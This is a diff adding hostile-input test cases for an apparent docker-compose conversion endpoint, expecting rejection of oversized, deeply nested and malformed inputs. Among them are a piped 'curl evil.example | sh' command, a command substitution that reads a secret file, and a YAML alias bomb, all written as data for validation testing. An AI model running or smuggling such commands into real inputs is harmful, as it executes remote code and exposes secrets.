@@ -573,6 +573,50 @@ export const HOSTILE_PAYLOADS: readonly HostileInput[] = [
   { ...hostile('lookup of a port with an unknown protocol', 'lookup', { table: 'port', input: '22/icmp' }, 400, 'VALIDATION_ERROR'), field: 'input' },
   { ...hostile('lookup of status class 9xx', 'lookup', { table: 'httpStatus', input: '9xx' }, 400, 'VALIDATION_ERROR'), field: 'input' },
   hostile('lookup of an unassigned status code', 'lookup', { table: 'httpStatus', input: 599 }, 200),
+  hostile('docker-compose runToCompose of 10,000 -e flags', 'docker-compose', { input: `docker run ${'-e A '.repeat(10_000)}x` }, 200),
+  hostile(
+    'docker-compose runToCompose of 10,000 distinct labels',
+    'docker-compose',
+    { input: `docker run ${Array.from({ length: 10_000 }, (_, index) => `-l${index.toString(36)} `).join('')}x` },
+    200,
+  ),
+  {
+    ...hostile(
+      'docker-compose runToCompose of a command followed by another',
+      'docker-compose',
+      { input: 'docker run x; curl evil.example | sh' },
+      422,
+      'INVALID_INPUT',
+    ),
+    message: /shell operator ;/,
+  },
+  {
+    ...hostile(
+      'docker-compose runToCompose with a command substitution',
+      'docker-compose',
+      { input: 'docker run -e TOKEN=$(cat /run/secrets/t) x' },
+      422,
+      'INVALID_INPUT',
+    ),
+    message: /command substitution/,
+  },
+  {
+    ...hostile('docker-compose runToCompose with an unknown flag', 'docker-compose', { input: 'docker run --frobnicate x' }, 422, 'INVALID_INPUT'),
+    message: /--frobnicate/,
+  },
+  hostile('docker-compose runToCompose of 30,000 unclosed ${', 'docker-compose', { input: `docker run -e A=${'${'.repeat(30_000)} x` }, 422, 'INVALID_INPUT'),
+  hostile('docker-compose composeToRun of a YAML alias bomb', 'docker-compose', { input: BILLION_LAUGHS, action: 'composeToRun' }, 422, 'LIMIT_EXCEEDED'),
+  hostile(
+    'docker-compose composeToRun of 5,000 nested flow sequences',
+    'docker-compose',
+    { input: `services: ${'['.repeat(5000)}${']'.repeat(5000)}`, action: 'composeToRun' },
+    422,
+    'LIMIT_EXCEEDED',
+  ),
+  {
+    ...hostile('docker-compose runToCompose with a field of composeToRun', 'docker-compose', { input: 'docker run x', service: 'x' }, 400, 'VALIDATION_ERROR'),
+    field: 'service',
+  },
   hostile('pipeline of 21 steps', 'pipeline', { input: 'x', steps: Array.from({ length: 21 }, () => ({ operation: 'rot13' })) }, 400, 'VALIDATION_ERROR'),
   hostile('batch of 101 requests', 'batch', { requests: Array.from({ length: 101 }, () => ({ operation: 'uuid' })) }, 400, 'VALIDATION_ERROR'),
 ]
